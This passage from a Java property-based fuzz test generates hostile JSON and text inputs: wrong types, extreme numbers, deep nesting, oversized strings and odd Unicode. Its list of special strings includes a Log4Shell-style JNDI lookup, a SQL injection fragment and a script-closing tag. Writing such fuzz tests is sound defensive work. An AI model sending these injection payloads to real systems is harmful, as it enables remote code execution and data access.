                Tuple.of(3, hostileJsonValues().map(v -> write(v, false))),
                Tuple.of(1, hostileJsonValues().map(v -> write(v, true))),
                Tuple.of(1, Arbitraries.of(31, 32, 33, 100, 10_000, 100_000).flatMap(depth -> Arbitraries.of(
                        "[".repeat(depth) + "]".repeat(depth),
                        "{\"a\":".repeat(depth) + "1" + "}".repeat(depth),
                        "{\"metadata\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth + 1),
                        "[".repeat(depth)))),
                Tuple.of(1, Arbitraries.of(256 * 1024 - 20, 256 * 1024, 300_000, 2_000_000)
                        .map(n -> "{\"text\":\"" + "x".repeat(n) + "\"}")),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(80)));
    }

    /** JSON values for any field: wrong types, nulls, extreme numbers and strings, nesting. */
    private static Arbitrary<JsonNode> hostileJsonValues() {
        JsonNodeFactory json = JsonNodeFactory.instance;
        Arbitrary<JsonNode> leaves = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.<JsonNode>of(json.nullNode(), json.booleanNode(true), json.booleanNode(false),
                        json.textNode("true"), json.textNode("1"), json.textNode("10"), json.textNode(""),
                        json.numberNode(0), json.numberNode(-1), json.numberNode(1), json.numberNode(Long.MAX_VALUE),
                        json.numberNode(Long.MIN_VALUE), json.numberNode(new BigInteger("9".repeat(30))),
                        json.numberNode(new BigDecimal("1e400")), json.numberNode(new BigDecimal("1.5")),
                        json.numberNode(new BigDecimal("-0.0")), json.textNode("archive"),
                        json.textNode("image/png"), json.textNode(USER), json.textNode(LIVE))),
                Tuple.of(3, shortTexts().map(json::textNode)),
                Tuple.of(1, Arbitraries.of(33_000, 70_000).map(n -> json.textNode("v".repeat(n)))),
                Tuple.of(1, Arbitraries.longs().map(l -> json.numberNode(l))));
        return Arbitraries.recursive(() -> leaves, inner -> Arbitraries.frequencyOf(
                Tuple.of(2, inner),
                Tuple.of(1, inner.list().ofMaxSize(4).map(items -> {
                    var array = json.arrayNode();
                    items.forEach(array::add);
                    return (JsonNode) array;
                })),
                Tuple.of(1, Arbitraries.maps(fieldNames(), inner).ofMaxSize(4).map(fields -> {
                    ObjectNode object = json.objectNode();
                    fields.forEach(object::set);
                    return (JsonNode) object;
                }))), 0, 4);
    }

    /** JSON objects, as metadata or settings: mostly small, sometimes deep or over the size limits. */
    private static Arbitrary<JsonNode> jsonObjects() {
        JsonNodeFactory json = JsonNodeFactory.instance;
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.maps(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(10),
                        Arbitraries.strings().alpha().numeric().ofMaxLength(20)).ofMaxSize(4).map(fields -> {
                            ObjectNode object = json.objectNode();
                            fields.forEach(object::put);
                            return (JsonNode) object;
                        })),
                Tuple.of(2, hostileJsonValues().map(v -> json.objectNode().<JsonNode>set("value", v))),
                Tuple.of(1, Arbitraries.of(8 * 1024, 17 * 1024, 40 * 1024)
                        .map(n -> (JsonNode) json.objectNode().put("big", "v".repeat(n)))),
                Tuple.of(1, Arbitraries.of(30, 31, 32, 40).map(depth -> {
                    ObjectNode root = json.objectNode();
                    ObjectNode current = root;
                    for (int i = 0; i < depth; i++) {
                        current = current.putObject("a");
                    }
                    return (JsonNode) root;
                })));
    }

    /** Message texts: short ones, and sometimes around and far over the 32 KiB limit. */
    private static Arbitrary<String> texts() {
        return Arbitraries.frequencyOf(
                Tuple.of(9, shortTexts()),
                Tuple.of(1, Combinators.combine(Arbitraries.of("x", "é", "😀"),
                                Arbitraries.of(8_192, 8_193, 16_384, 32_768, 32_769, 100_000))
                        .as(String::repeat)));
    }

    /** Ordinary text, any characters (lone surrogates included), and special strings. */
    private static Arbitrary<String> shortTexts() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.strings().alpha().numeric().withChars(" .,!?").ofMaxLength(40)),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(2, Arbitraries.of("", "\u0000", "\uD800", "\uDFFF", "\uDC00\uD800", "😀", "\uFEFF", "\u202E",
                        "\u2028", "a\u0000b", "\"", "\\", "</script>", "${jndi:ldap://x/a}", "%s%n", "' OR 1=1 --",
                        "null", "\r\n")));
    }
}
